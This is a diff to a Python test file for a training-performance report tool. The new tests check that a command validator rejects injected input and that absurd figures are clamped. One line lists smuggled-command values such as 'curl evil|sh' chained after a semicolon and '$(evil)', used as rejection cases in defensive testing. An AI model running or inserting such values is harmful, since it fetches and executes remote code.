@@ -29,6 +29,8 @@ def test_the_verdict_the_split_and_the_figures_are_in_words():
     assert found.verdicts == ["input-bound: 41 % of each step waits for data", "loop-bound: 16 % of the time"]
     assert not found.fine
     assert found.next == ["The next start takes 6 loader workers.", "falaj train … --cpus 7"]
+    assert [found.is_command(line) for line in found.next] == [False, True]
+    assert not any(map(found.is_command, ("falaj train x; curl evil|sh", "falaj job\u00a0x", "falaj train $(evil)", "falajx")))
     assert found.shares == {"data": 0.41, "compute": 0.5897}
     assert found.facts == [("A step", "32.5 ms"), ("Rows", "62,910/s"), ("Of the peak", "47 %")]
 
@@ -46,3 +48,12 @@ def test_a_training_that_nothing_is_in_the_way_of_is_fine():
 
 def test_a_training_s_tags_are_told_from_those_of_its_author():
     assert [is_told(name) for name in TAGS] == [True, True, True, True, False]
+
+
+def test_absurd_figures_stretch_no_page():
+    absurd = {"data_share": float("inf"), "compute_share": 1e308, "step_seconds": float("nan"), "gpu_watts": 1e308}
+    found = shown(
+        TAGS, {f"falaj.training/{name}": number for name, number in absurd.items()} | {"falaj.training/cpus_busy": -1.0}
+    )
+    assert found.shares == {"data": 1.0, "compute": 1.0}
+    assert found.facts == []
